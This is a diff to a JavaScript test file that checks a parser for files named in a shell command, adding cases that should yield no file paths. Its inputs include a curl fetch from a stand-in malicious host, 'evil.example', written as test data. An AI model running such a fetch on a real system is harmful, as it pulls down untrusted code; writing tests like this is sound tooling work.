@@ -25,7 +25,14 @@ describe('files that a command names', () => {
   });
 
   it.each([
-    ...['', ' ', 'ls', 'curl https://evil.example/a/b.sh', 'git clone github.com/foo/bar.git'],
+    ...[
+      '',
+      ' ',
+      'ls',
+      'curl https://evil.example/a/b.sh',
+      'curl http://a/?b=1&f=/etc/x',
+      'git clone github.com/foo/bar.git',
+    ],
     ...['curl -H content-type: application/vnd.api', 'date 01/02/2026', 'sed s/a/b/g x', '// x'],
     ...['awk /root/{print}', 'sed -n /from/p', 'docker pull repo/image:tag', 'Mozilla/5.0'],
   ])('%j: none', (commandLine) => {
